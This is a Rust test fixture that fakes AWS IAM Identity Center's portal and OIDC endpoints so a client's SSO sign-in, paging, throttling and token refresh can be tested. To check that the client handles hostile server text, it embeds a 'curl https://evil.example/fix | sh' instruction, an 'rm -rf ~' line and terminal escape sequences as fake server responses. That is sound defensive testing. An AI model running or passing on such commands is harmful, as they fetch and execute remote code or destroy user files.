//! The tests' own IAM Identity Center, because moto has none: the portal (GetRoleCredentials,
//! Logout, and the ListAccounts and ListAccountRoles that `sso populate` pages through) and the
//! OIDC service (RegisterClient, StartDeviceAuthorization, CreateToken for a
//! device code, an authorization code with its PKCE verifier checked, and a refresh token, each
//! good once as the service's are;
//! `/authorize`, which sends the browser back to the loopback callback; `/device`, the page a
//! person approves a device code on). It speaks the services' JSON as the SDKs and botocore
//! expect it, records each request, and behaves as a `Script` says: what it grants, how it pages,
//! how slowly it answers, and which calls it throttles, fails or refuses.
//!
//! `examples/fake_identity_center.rs` includes this file too, so it uses only the package's own
//! dependencies.

use base64::Engine;
use sha2::Digest;
use std::collections::HashMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};

pub const ACCESS_KEY_ID: &str = "ASIASSOPORTAL";

/// What a request asked for: its method and path with the query, the bearer token it carried,
/// and its body.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SsoRequest {
    pub method: String,
    pub path: String,
    pub token: String,
    pub body: String,
}

/// The `error_description` a declined sign-in page sends back, percent-encoded: words no one
/// should follow, with an escape sequence.
pub const ATTACKERS_WORDS: &str =
    "Re-enroll%3A+curl+https%3A%2F%2Fevil.example%2Ffix+%7C+sh%1b%5d0%3bx";

/// How the fake behaves; tests change it through `FakeSso::script`.
#[derive(Debug, Clone)]
pub struct Script {
    /// Device-code polls answered AuthorizationPending before the person's approval counts.
    pub pending_polls: usize,
    /// The first device-code poll is answered SlowDown.
    pub slow_down_once: bool,
    /// The person declines (the device page, or the authorize page with `error=` this code and
    /// an `error_description` of an attacker's words).
    pub decline: bool,
    pub refusal_code: &'static str,
    /// Refresh tokens are answered InvalidGrantException.
    pub revoke_refresh_tokens: bool,
    /// The user code and verification page are made of escape sequences and newlines.
    pub hostile_device_values: bool,
    /// Seconds an access token is issued for.
    pub token_seconds: i64,
    /// Seconds a device code is good for.
    pub device_seconds: i64,
    /// Token requests from this client ID are answered InvalidClientException (a registration
    /// the service has forgotten).
    pub forgotten_client: Option<String>,
    /// The accounts ListAccounts pages through, in order: (account ID, account name).
    pub accounts: Vec<(String, String)>,
    /// The roles ListAccountRoles pages through, by account ID, in order.
    pub roles: HashMap<String, Vec<String>>,
    /// The most accounts one ListAccounts page holds, whatever `max_result` the client asks, so
    /// a listing spans pages even for a client that asks the service's maximum (100).
    pub accounts_page_size: usize,
    /// The same cap for one ListAccountRoles page.
    pub roles_page_size: usize,
    /// Milliseconds each portal call (the two listings and GetRoleCredentials) waits before it
    /// is answered, without holding up the calls that overlap it.
    pub portal_delay_ms: u64,
    /// The first this many listing calls are answered TooManyRequestsException (HTTP 429).
    pub throttle_first: usize,
    /// Every this many-th listing call is answered TooManyRequestsException too (0: none is).
    pub throttle_every: usize,
    /// ListAccountRoles for this account answers HTTP 500 InternalServerException, every time.
    pub failing_roles_account: Option<String>,
    /// Bearer tokens every portal call answers UnauthorizedException (HTTP 401), as it answers
    /// a call that carries none.
    pub refused_tokens: Vec<String>,
    /// The `expiration` GetRoleCredentials gives, in milliseconds since 1970; none: an hour
    /// from now.
    pub role_expiration_ms: Option<i64>,
    /// Milliseconds a refresh (CreateToken with a refresh token) waits before it is answered.
    pub refresh_delay_ms: u64,
    /// The first refresh is held until another refresh has spent the same refresh token (for
    /// up to ten seconds), as when another client wins a race for it.
    pub hold_first_refresh: bool,
}

impl Default for Script {
    fn default() -> Self {
        Script {
            pending_polls: 1,
            slow_down_once: false,
            decline: false,
            refusal_code: "access_denied",
            revoke_refresh_tokens: false,
            hostile_device_values: false,
            token_seconds: 3600,
            device_seconds: 600,
            forgotten_client: None,
            accounts: Vec::new(),
            roles: HashMap::new(),
            accounts_page_size: 100,
            roles_page_size: 100,
            portal_delay_ms: 0,
            throttle_first: 0,
            throttle_every: 0,
            failing_roles_account: None,
            refused_tokens: Vec::new(),
            role_expiration_ms: None,
            refresh_delay_ms: 0,
            hold_first_refresh: false,
        }
    }
}

impl Script {
    /// Grants `roles` in one more account, listed after those already granted.
    pub fn grant(&mut self, account_id: &str, account_name: &str, roles: &[&str]) {
        self.accounts
            .push((account_id.to_string(), account_name.to_string()));
        self.roles.insert(
            account_id.to_string(),
            roles.iter().map(|role| role.to_string()).collect(),
        );
    }

    /// Grants `roles_each` roles in each of `accounts` more accounts, named as
    /// `generated_account` and `generated_role` name them: an organisation's worth of grants.
    pub fn grant_generated(&mut self, accounts: usize, roles_each: usize) {
        let roles: Vec<String> = (0..roles_each).map(generated_role).collect();
        for index in 0..accounts {
            let (id, name) = generated_account(index);
            self.roles.insert(id.clone(), roles.clone());
            self.accounts.push((id, name));
        }
    }
}

/// The ID and name of the `index`th generated account: 12 digits, and a name with a space in it
/// (as account names usually have) that profile names reduce to `-`.
pub fn generated_account(index: usize) -> (String, String) {
    (
        format!("{}", 100_000_000_000 + index as u64),
        format!("Account {:04}", index + 1),
    )
}

/// The name of the `index`th role granted in each generated account: the permission sets people
/// meet first, then numbered ones.
pub fn generated_role(index: usize) -> String {
    const COMMON: [&str; 4] = [
        "AdministratorAccess",
        "ReadOnlyAccess",
        "PowerUserAccess",
        "ViewOnlyAccess",
    ];
    COMMON
        .get(index)
        .map(|name| name.to_string())
        .unwrap_or_else(|| format!("Role{index}"))
}

#[derive(Default)]
struct State {
    requests: Vec<SsoRequest>,
    script: Script,
    /// user code → approved by the person (the device page was opened).
    approved: HashMap<String, bool>,
    polls: usize,
    /// authorization code → (PKCE challenge, redirect URI).
    codes: HashMap<String, (String, String)>,
    /// client ID → the grant types it was registered for.
    clients: HashMap<String, Vec<String>>,
    issued: usize,
    /// ListAccounts and ListAccountRoles calls so far, throttled ones included.
    listing_calls: usize,
    /// Refresh tokens used once: the service hands out a new one with each new token, and the
    /// old one is refused from then on.
    spent_refresh_tokens: std::collections::HashSet<String>,
    /// Refresh requests received so far.
    refreshes: usize,
    /// Portal calls being answered right now, and the most there ever were at once.
    in_flight: usize,
    most_in_flight: usize,
}

pub struct FakeSso {
    pub endpoint: String,
    state: Arc<Mutex<State>>,
}

impl FakeSso {
    /// An Identity Center that answers every request.
    pub fn start() -> FakeSso {
        FakeSso::serve(true, Script::default())
    }

    /// One that behaves as `script` says from its first request on.
    pub fn start_with(script: Script) -> FakeSso {
        FakeSso::serve(true, script)
    }

    /// One that reads every request and never answers it.
    pub fn start_silent() -> FakeSso {
        FakeSso::serve(false, Script::default())
    }

    fn serve(answers: bool, script: Script) -> FakeSso {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind the fake Identity Center");
        let endpoint = format!("http://{}", listener.local_addr().unwrap());
        let state = Arc::new(Mutex::new(State {
            script,
            ..State::default()
        }));
        let shared = Arc::clone(&state);
        let own_endpoint = endpoint.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let shared = Arc::clone(&shared);
                let own_endpoint = own_endpoint.clone();
                std::thread::spawn(move || serve_one(stream, &shared, &own_endpoint, answers));
            }
        });
        FakeSso { endpoint, state }
    }

    pub fn requests(&self) -> Vec<SsoRequest> {
        self.state.lock().unwrap().requests.clone()
    }

    /// Changes how the fake behaves from now on.
    pub fn script(&self, change: impl FnOnce(&mut Script)) {
        change(&mut self.state.lock().unwrap().script);
    }

    /// The requests to one path (without the query).
    pub fn calls_to(&self, path: &str) -> Vec<SsoRequest> {
        self.requests()
            .into_iter()
            .filter(|r| r.path.split('?').next() == Some(path))
            .collect()
    }

    /// The ListAccounts and ListAccountRoles calls so far, throttled and failed ones included.
    pub fn listing_calls(&self) -> Vec<SsoRequest> {
        self.requests()
            .into_iter()
            .filter(|r| r.path.starts_with(LISTING_PREFIX))
            .collect()
    }

    /// The most portal calls that were being answered at the same moment.
    pub fn most_in_flight(&self) -> usize {
        self.state.lock().unwrap().most_in_flight
    }
}

/// The paths of the portal's two listings share this prefix.
const LISTING_PREFIX: &str = "/assignment/";

/// Whether `path` is one of the portal's calls (rather than the OIDC service's): the calls the
/// delay, the refused tokens and the in-flight count apply to.
fn is_portal_call(path: &str) -> bool {
    path.starts_with(LISTING_PREFIX) || path.starts_with("/federation/credentials")
}

/// Counts a portal call as in flight until dropped, so a call that fails on the way out still
/// leaves the count.
struct InFlight<'a>(&'a Mutex<State>);

impl<'a> InFlight<'a> {
    fn enter(state: &'a Mutex<State>) -> InFlight<'a> {
        let mut locked = state.lock().unwrap();
        locked.in_flight += 1;
        locked.most_in_flight = locked.most_in_flight.max(locked.in_flight);
        InFlight(state)
    }
}

impl Drop for InFlight<'_> {
    fn drop(&mut self) {
        self.0.lock().unwrap().in_flight -= 1;
    }
}

fn serve_one(stream: TcpStream, state: &Mutex<State>, endpoint: &str, answers: bool) {
    let mut reader = BufReader::new(&stream);
    let mut request_line = String::new();
    if reader.read_line(&mut request_line).unwrap_or(0) == 0 {
        return;
    }
    let mut token = String::new();
    let mut length = 0usize;
    let mut header = String::new();
    while reader.read_line(&mut header).unwrap_or(0) > 0 && header.trim_end() != "" {
        if let Some((name, value)) = header.trim_end().split_once(':') {
            if name.eq_ignore_ascii_case("x-amz-sso_bearer_token") {
                token = value.trim().to_string();
            }
            if name.eq_ignore_ascii_case("content-length") {
                length = value.trim().parse().unwrap_or(0);
            }
        }
        header.clear();
    }
    let mut body = vec![0u8; length];
    if reader.read_exact(&mut body).is_err() {
        return;
    }
    let mut words = request_line.split_whitespace();
    let method = words.next().unwrap_or("").to_string();
    let path = words.next().unwrap_or("").to_string();
    let body = String::from_utf8_lossy(&body).into_owned();
    let delay_ms = {
        let mut locked = state.lock().unwrap();
        locked.requests.push(SsoRequest {
            method,
            path: path.clone(),
            token: token.clone(),
            body: body.clone(),
        });
        locked.script.portal_delay_ms
    };
    if !answers {
        // Held open, unanswered, until the test's process ends.
        std::mem::forget(stream);
        return;
    }
    if path == "/token" && field(&body, "grantType") == "refresh_token" {
        hold_refresh(state, &field(&body, "refreshToken"));
    }
    let counted = is_portal_call(&path).then(|| InFlight::enter(state));
    if is_portal_call(&path) && delay_ms > 0 {
        // Outside the lock, so overlapping calls each wait their own delay.
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
    }
    let answer = if path.starts_with(LISTING_PREFIX) {
        listing(&path, &token, &mut state.lock().unwrap())
    } else if is_portal_call(&path) && refused(&token, &state.lock().unwrap().script) {
        unauthorized()
    } else {
        route(&path, &body, state, endpoint)
    };
    // The call leaves the count before its answer leaves: a client sends its next call only
    // after reading this answer, and must not find this one still counted.
    drop(counted);
    let mut writer = &stream;
    let _ = writer.write_all(answer.as_bytes());
}

/// Waits as the script says before a refresh with `refresh_token` is answered, outside the lock
/// so other requests go on meanwhile.
fn hold_refresh(state: &Mutex<State>, refresh_token: &str) {
    let (delay_ms, held) = {
        let mut locked = state.lock().unwrap();
        locked.refreshes += 1;
        let script = &locked.script;
        (
            script.refresh_delay_ms,
            script.hold_first_refresh && locked.refreshes == 1,
        )
    };
    std::thread::sleep(std::time::Duration::from_millis(delay_ms));
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while held
        && std::time::Instant::now() < deadline
        && !state
            .lock()
            .unwrap()
            .spent_refresh_tokens
            .contains(refresh_token)
    {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}

fn ok(body: &str) -> String {
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
         Connection: close\r\n\r\n{body}",
        body.len()
    )
}

/// An OIDC error as the service writes it: the shape's name in a header, the OAuth error in the
/// body.
fn oidc_error(shape: &str, oauth: &str) -> String {
    let body = format!("{{\"error\":\"{oauth}\",\"error_description\":\"{shape} from the fake\"}}");
    format!(
        "HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\nx-amzn-ErrorType: {shape}\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
}

/// A portal error as the service writes it: the shape's name in `x-amzn-ErrorType`, a message in
/// the JSON body.
fn portal_error(status: &str, shape: &str, message: &str) -> String {
    let body = serde_json::json!({ "message": message }).to_string();
    format!(
        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nx-amzn-ErrorType: {shape}\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
}

fn unauthorized() -> String {
    portal_error(
        "401 Unauthorized",
        "UnauthorizedException",
        "Session token not found or invalid",
    )
}

fn refused(token: &str, script: &Script) -> bool {
    token.is_empty() || script.refused_tokens.iter().any(|t| t == token)
}

/// ListAccounts (`GET /assignment/accounts`) and ListAccountRoles (`GET /assignment/roles`), as
/// the service pages them: at most `max_result` items (1 to 100, as the service's model says)
/// and at most the script's page size, with a `nextToken` to ask for the rest that only the same
/// listing accepts, and none on the last page. Only the grants are read, never cloned: a script
/// may hold an organisation's worth of them.
fn listing(path: &str, token: &str, state: &mut State) -> String {
    state.listing_calls += 1;
    let call = state.listing_calls;
    let script = &state.script;
    if refused(token, script) {
        return unauthorized();
    }
    let throttled = call <= script.throttle_first
        || (script.throttle_every > 0 && call.is_multiple_of(script.throttle_every));
    if throttled {
        return portal_error(
            "429 Too Many Requests",
            "TooManyRequestsException",
            "Rate exceeded",
        );
    }
    let q = query(path);
    let asked = match q.get("max_result").map(|m| m.parse::<usize>()) {
        None => usize::MAX,
        Some(Ok(asked)) if (1..=100).contains(&asked) => asked,
        Some(_) => {
            return portal_error(
                "400 Bad Request",
                "InvalidRequestException",
                "max_result must be between 1 and 100",
            )
        }
    };
    let roles_of = q.get("account_id");
    // The token names its listing, so one listing's token is refused by another.
    let listing_name = match roles_of {
        Some(account) => format!("roles-of-{account}"),
        None => "accounts".to_string(),
    };
    let start = match q.get("next_token") {
        None => 0,
        Some(next) => match next
            .strip_prefix(&format!("{listing_name}@"))
            .and_then(|offset| offset.parse::<usize>().ok())
        {
            Some(offset) => offset,
            None => {
                return portal_error(
                    "400 Bad Request",
                    "InvalidRequestException",
                    "Invalid next token",
                )
            }
        },
    };
    let page = |total: usize, cap: usize| {
        let end = total.min(start.saturating_add(asked.min(cap).max(1)));
        let next = (end < total).then(|| format!("{listing_name}@{end}"));
        (start.min(end)..end, next)
    };
    let mut answer = match roles_of {
        None => {
            let (range, next) = page(script.accounts.len(), script.accounts_page_size);
            let accounts: Vec<serde_json::Value> = script.accounts[range]
                .iter()
                .map(|(id, name)| {
                    serde_json::json!({
                        "accountId": id,
                        "accountName": name,
                        "emailAddress": format!("aws+{id}@example.com"),
                    })
                })
                .collect();
            (serde_json::json!({ "accountList": accounts }), next)
        }
        Some(account) => {
            if script.failing_roles_account.as_ref() == Some(account) {
                return portal_error(
                    "500 Internal Server Error",
                    "InternalServerException",
                    "An internal error occurred",
                );
            }
            let Some(roles) = script.roles.get(account) else {
                return portal_error(
                    "404 Not Found",
                    "ResourceNotFoundException",
                    "No access to this account",
                );
            };
            let (range, next) = page(roles.len(), script.roles_page_size);
            let roles: Vec<serde_json::Value> = roles[range]
                .iter()
                .map(|role| serde_json::json!({ "roleName": role, "accountId": account }))
                .collect();
            (serde_json::json!({ "roleList": roles }), next)
        }
    };
    if let Some(next) = answer.1.take() {
        answer.0["nextToken"] = serde_json::json!(next);
    }
    ok(&answer.0.to_string())
}

fn field(body: &str, name: &str) -> String {
    serde_json::from_str::<serde_json::Value>(body)
        .ok()
        .and_then(|v| v.get(name).and_then(|f| f.as_str()).map(String::from))
        .unwrap_or_default()
}

fn query(path: &str) -> HashMap<String, String> {
    let query = path.split_once('?').map(|(_, q)| q).unwrap_or("");
    form_urlencoded::parse(query.as_bytes())
        .map(|(k, v)| (k.into_owned(), v.into_owned()))
        .collect()
}

fn route(path: &str, body: &str, state: &Mutex<State>, endpoint: &str) -> String {
    let mut state = state.lock().unwrap();
    let script = state.script.clone();
    let now = chrono::Utc::now().timestamp();
    match path.split('?').next().unwrap_or("") {
        "/federation/credentials" => {
            let expiration_ms = script.role_expiration_ms.unwrap_or((now + 3600) * 1000);
            ok(&format!(
                "{{\"roleCredentials\":{{\"accessKeyId\":\"{ACCESS_KEY_ID}\",\
                 \"secretAccessKey\":\"portal-secret\",\"sessionToken\":\"portal-token\",\
                 \"expiration\":{expiration_ms}}}}}"
            ))
        }
        "/logout" => ok(""),
        "/client/register" => {
            let n = state.requests.len();
            let grants: Vec<String> = serde_json::from_str::<serde_json::Value>(body)
                .ok()
                .and_then(|v| v.get("grantTypes").cloned())
                .and_then(|g| serde_json::from_value(g).ok())
                .unwrap_or_default();
            state.clients.insert(format!("client-{n}"), grants);
            ok(&format!(
                "{{\"clientId\":\"client-{n}\",\"clientSecret\":\"secret-{n}\",\
                 \"clientIdIssuedAt\":{now},\"clientSecretExpiresAt\":{}}}",
                now + 90 * 86400
            ))
        }
        "/device_authorization" => {
            let user_code = format!("CODE-{}", state.requests.len());
            state.approved.insert(user_code.clone(), false);
            let (shown_code, page) = if script.hostile_device_values {
                (
                    "\u{1b}]0;PWNED\u{7}\nrm -rf ~".to_string(),
                    format!("{endpoint}/device\u{1b}[2J"),
                )
            } else {
                (user_code.clone(), format!("{endpoint}/device"))
            };
            let answer = serde_json::json!({
                "deviceCode": format!("device-{user_code}"),
                "userCode": shown_code,
                "verificationUri": page,
                "verificationUriComplete": format!("{endpoint}/device?user_code={user_code}"),
                "expiresIn": script.device_seconds,
                "interval": 1,
            });
            ok(&answer.to_string())
        }
        // The person's page for a device code: opening it approves (or declines) the code.
        "/device" => {
            let code = query(path).get("user_code").cloned().unwrap_or_default();
            state.approved.insert(code, !script.decline);
            ok("{}")
        }
        // The person's sign-in page for the authorization code flow: it sends the browser back.
        "/authorize" => {
            let q = query(path);
            let redirect = q.get("redirect_uri").cloned().unwrap_or_default();
            // As the real service: no redirect for a client not registered for this flow, or a
            // redirect that is not its loopback one, or a request that is not PKCE's.
            let client = q.get("client_id").cloned().unwrap_or_default();
            let for_this_flow = state
                .clients
                .get(&client)
                .is_some_and(|grants| grants.iter().any(|g| g == "authorization_code"));
            let well_formed = q.get("response_type").map(String::as_str) == Some("code")
                && q.get("code_challenge_method").map(String::as_str) == Some("S256")
                && q.contains_key("code_challenge")
                && q.contains_key("scopes")
                && redirect.starts_with("http://127.0.0.1:")
                && redirect.ends_with("/oauth/callback");
            if !for_this_flow || !well_formed {
                return "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    .into();
            }
            let state_param = q.get("state").cloned().unwrap_or_default();
            let location = if script.decline {
                let refusal: String =
                    form_urlencoded::byte_serialize(script.refusal_code.as_bytes()).collect();
                format!("{redirect}?error={refusal}&error_description={ATTACKERS_WORDS}&state={state_param}")
            } else {
                let code = format!("code-{}", state.requests.len());
                state.codes.insert(
                    code.clone(),
                    (
                        q.get("code_challenge").cloned().unwrap_or_default(),
                        redirect.clone(),
                    ),
                );
                format!("{redirect}?code={code}&state={state_param}")
            };
            format!(
                "HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\n\
                 Connection: close\r\n\r\n"
            )
        }
        "/token" => token(body, &mut state, &script),
        _ => "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".into(),
    }
}

fn issue(state: &mut State, script: &Script, refresh: bool) -> String {
    state.issued += 1;
    let mut answer = serde_json::json!({
        "accessToken": format!("access-{}", state.issued),
        "tokenType": "Bearer",
        "expiresIn": script.token_seconds,
    });
    if refresh {
        answer["refreshToken"] = serde_json::json!(format!("refresh-{}", state.issued));
    }
    ok(&answer.to_string())
}

fn token(body: &str, state: &mut State, script: &Script) -> String {
    if script.forgotten_client.as_deref() == Some(field(body, "clientId").as_str()) {
        return oidc_error("InvalidClientException", "invalid_client");
    }
    match field(body, "grantType").as_str() {
        "urn:ietf:params:oauth:grant-type:device_code" => {
            let device = field(body, "deviceCode");
            let code = device.trim_start_matches("device-").to_string();
            state.polls += 1;
            if script.slow_down_once && state.polls == 1 {
                return oidc_error("SlowDownException", "slow_down");
            }
            let refreshable = state
                .clients
                .get(&field(body, "clientId"))
                .is_some_and(|grants| grants.iter().any(|g| g == "refresh_token"));
            match state.approved.get(&code) {
                Some(true) if state.polls > script.pending_polls => {
                    issue(state, script, refreshable)
                }
                Some(false) if script.decline => {
                    oidc_error("AccessDeniedException", "access_denied")
                }
                Some(_) => oidc_error("AuthorizationPendingException", "authorization_pending"),
                None => oidc_error("InvalidGrantException", "invalid_grant"),
            }
        }
        "authorization_code" => {
            let code = field(body, "code");
            let verifier = field(body, "codeVerifier");
            let redirect = field(body, "redirectUri");
            let Some((challenge, expected_redirect)) = state.codes.remove(&code) else {
                return oidc_error("InvalidGrantException", "invalid_grant");
            };
            let computed = base64::engine::general_purpose::URL_SAFE_NO_PAD
                .encode(sha2::Sha256::digest(verifier.as_bytes()));
            if computed != challenge || redirect != expected_redirect {
                return oidc_error("InvalidGrantException", "invalid_grant");
            }
            issue(state, script, true)
        }
        "refresh_token" => {
            let refresh = field(body, "refreshToken");
            if script.revoke_refresh_tokens
                || !refresh.starts_with("refresh-")
                || !state.spent_refresh_tokens.insert(refresh.clone())
            {
                return oidc_error("InvalidGrantException", "invalid_grant");
            }
            issue(state, script, true)
        }
        _ => oidc_error("UnsupportedGrantTypeException", "unsupported_grant_type"),
    }
}
